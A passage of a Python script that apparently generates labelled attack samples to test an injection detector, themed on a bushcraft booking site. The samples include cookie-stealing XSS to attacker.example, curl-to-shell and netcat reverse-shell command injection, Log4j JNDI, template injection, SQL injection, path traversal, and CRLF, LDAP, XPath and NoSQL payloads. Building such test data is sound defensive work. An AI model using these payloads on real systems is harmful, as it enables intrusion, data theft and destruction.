aggregate ~~ [{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}}]
aggregate ~~ {"$group": {"_id": "$password_hash"}}
aggregate ~~ [{"$out": "bookings"}]
couch ~~ {"selector": {"_id": {"$gt": null}}, "fields": ["email", "password"]}
redis ~~ tarp\r\nFLUSHALL\r\n
redis ~~ x<<CR>><<LF>>CONFIG SET dir /var/www/html<<CR>><<LF>>
elastic ~~ {"query": {"script": {"script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")"}}}
elastic ~~ *) OR _exists_:password_hash OR (*
elastic ~~ {"query_string": {"query": "role:admin OR *"}}
""")

LIT["crlf"] = parse(r"""
log-forging ~~ Bow drill ok<<LF>>2024-06-01 12:00:00 INFO admin login succeeded for user=root from 127.0.0.1
log-forging ~~ Kai<<CR>><<LF>>[ALERT] payment refund issued booking=ALL amount=9999
log-forging ~~ tinder%0a127.0.0.1 - - [01/Jun/2024:12:00:00 +0000] "GET /admin HTTP/1.1" 200 512
log-forging ~~ ember%0d%0aWARN user sam@bushcraft.test deleted all waivers
log-forging ~~ review ok\n[INFO] password reset for admin -> new=hunter2
log-forging ~~ birch<<LF>>Jun 01 03:14:07 bushcraft sshd[2211]: Accepted password for root from 10.0.0.5 port 52211 ssh2
log-forging ~~ Spoon carving was fun<<CR>>2024-06-01T09:00:00Z booking=44817 status=REFUNDED by=admin
header ~~ dark%0D%0ASet-Cookie:%20csrftoken=fixed0000;%20Domain=.bushcraft.test
log-forging ~~ hazel%E5%98%8A%E5%98%8DINFO forged line
header ~~ en-GB%0d%0aSet-Cookie:%20session=attacker_fixed_1234;%20Path=/
header ~~ /kit-list%0D%0ALocation:%20https://attacker.example/phish
header ~~ fire<<CR>><<LF>>X-Forwarded-For: 127.0.0.1
header ~~ course%0d%0aContent-Security-Policy:%20script-src%20*
header ~~ %0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true
header ~~ /redirect?next=%E5%98%8D%E5%98%8ASet-Cookie:%20admin=1
header ~~ x%0aRefresh:%200;url=https://attacker.example/
splitting ~~ en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E
splitting ~~ /courses<<CR>><<LF>>Content-Length: 0<<CR>><<LF>><<CR>><<LF>>HTTP/1.1 200 OK<<CR>><<LF>>Content-Type: text/html<<CR>><<LF>><<CR>><<LF>><h1>Site moved</h1><a href=https://attacker.example>click</a>
splitting ~~ %0d%0a%0d%0a<html><body>Booking cancelled. Re-enter card at attacker.example</body></html>
splitting ~~ GET / HTTP/1.1%0d%0aHost: localhost%0d%0a%0d%0aGET /admin HTTP/1.1
mail ~~ will@example.com<<LF>>Bcc: everyone@bushcraft.test
mail ~~ Booking question<<CR>><<LF>>Cc: list@attacker.example<<CR>><<LF>>X-Priority: 1
mail ~~ zoe@example.org%0ABcc:spam1@attacker.example,spam2@attacker.example
mail ~~ Gift voucher<<LF>>Content-Type: text/html<<LF>><<LF>><a href="https://attacker.example/v">Claim £500</a>
mail ~~ Hi%0d%0aTo:%20victim@example.net%0d%0aSubject:%20Your%20refund
mail ~~ me@example.com<<CR>><<LF>>Reply-To: support@attacker.example
csv-row ~~ Maria Ortiz",yes<<LF>>9999,Evil Row,Fire Craft,=HYPERLINK("https://attacker.example","refund")
csv-row ~~ vegan<<CR>><<LF>>1044;Fake Student;Knife Skills;yes;"=cmd|' /C calc'!A0"
csv-row ~~ no nuts";<<LF>>admin@attacker.example;instructor;approved
smtp ~~ x<<CR>><<LF>>.<<CR>><<LF>>MAIL FROM:<a@attacker.example><<CR>><<LF>>RCPT TO:<victim@example.net><<CR>><<LF>>DATA
""")

LIT["ldap-xpath"] = parse(r"""
ldap ~~ *)(uid=*))(|(uid=*
ldap ~~ sam)(|(password=*))
ldap ~~ admin)(&)
ldap ~~ *)(objectClass=*
ldap ~~ instructor*)(memberOf=cn=admins,ou=groups,dc=bushcraft,dc=test
ldap ~~ x)(|(cn=*)(userPassword=a*)
ldap ~~ *)%00
ldap ~~ \2a)(uid=\2a
ldap ~~ priya)(!(department=x))(|(uid=x
ldap ~~ (|(uid=*)(description=*secret*))
xpath ~~ ' or '1'='1
xpath ~~ Fire Craft' or count(/bookings/booking)>0 or 'a'='b
xpath ~~ ' or name(/*[1])='kit' or '
xpath ~~ x' or substring(//user[1]/password,1,1)='a' or 'x'='y
xpath ~~ ']|//user/password|//a['
xpath ~~ 1 or 1=1]|//*|//*[1=1
xpath ~~ ') or string-length(//instructor[1]/pin)=4 or ('
xpath ~~ tarp' and doc('http://attacker.example/x.xml') or '
xpath ~~ '] | /*/*/text() | a['
xpath ~~ " or contains(//user[role='admin']/email,"@") or "
""")

# ---- small generated part (<10%): one pool + prefixes, plus one-pass urlencode ----
XSS_PREFIX = ["Loved the course! ", "Kit list updated: ", "Photo caption: ", "Wild garlic spot ",
              "Re: bow drill woes ", "Display name: "]
XSS_POOL = ["<img src=/ onerror=fetch('//attacker.example/x?'+document.cookie)>",
            "<svg onload=navigator.sendBeacon('//attacker.example',document.cookie)>",
            "<iframe onload=alert(document.domain)>",
            "<a href=javascript:alert(document.cookie)>map</a>"]
CMDI_PREFIX = ["firelog_june.csv", "kit-v3.pdf", "shelter.jpg", "ember.png", "review.txt", "waiver.pdf"]
CMDI_POOL = [";curl -s attacker.example/k.sh|sh", "&&wget 198.51.100.2/b -O-|sh",
             "|nc 203.0.113.12 9999 -e sh", "$(id>/tmp/o)"]
CODE_PREFIX = ["Hi ", "Dear instructor ", "Reminder: ", "Booking note: "]
CODE_POOL = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}",
             "${jndi:ldap://198.51.100.50:1389/b}",
             "<%= IO.popen('id').readlines %>"]
SQLI_URL = ["' OR 'a'='a' -- ", "1 UNION SELECT email,pw FROM users--", "x'; DROP TABLE kit_items;--",
            "' AND SLEEP(5)#", "') OR 1=1 LIMIT 1-- -", "5 AND 1=2 UNION SELECT version(),2"]
TRAV_URL = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../.env", "/proc/self/environ"]

GEN_COUNTS = {"xss": 8, "cmdi": 8, "code": 6}

def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))

def main():
    rng = random.Random(SEED)
    with open(os.path.join(HERE, "benign.jsonl"), encoding="utf-8") as f:
        benign = {json.loads(l)["value"] for l in f}
    rows, seen = [], set()
    def add(cat, cls, val, lit):
        assert 1 <= len(val) <= 2000, val
        assert val not in seen, ("dup", val)
        assert val not in benign, ("benign", val)
        for ch in val:
            assert ch in "\n\r\t" or ord(ch) >= 32, (val,)
        seen.add(val)
        rows.append((cat, cls, val, lit))
    gen = {
        "xss": (XSS_PREFIX, XSS_POOL),
        "cmdi": (CMDI_PREFIX, CMDI_POOL),
        "code": (CODE_PREFIX, CODE_POOL),
    }
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    for cat in order:
        for cls, val in LIT[cat]:
            add(cat, cls, val, True)
        if cat in gen:
            pre, pool = gen[cat]
            combos = [(p, q) for p in pre for q in pool]
            rng.shuffle(combos)
            for p, q in combos[:GEN_COUNTS[cat]]:
                add(cat, "prefixed", p + q, False)
        if cat == "sqli":
            for s in SQLI_URL:
                add(cat, "encoded+urlencode", urlencode_all(s), False)
        if cat == "traversal":
            for s in TRAV_URL:
                add(cat, "dotdot+urlencode", urlencode_all(s), False)
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, val, lit) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hame-%05d" % i, "category": cat, "class": cls,
                                "label": "attack", "value": val}, ensure_ascii=False) + "\n")

if __name__ == "__main__":
    main()
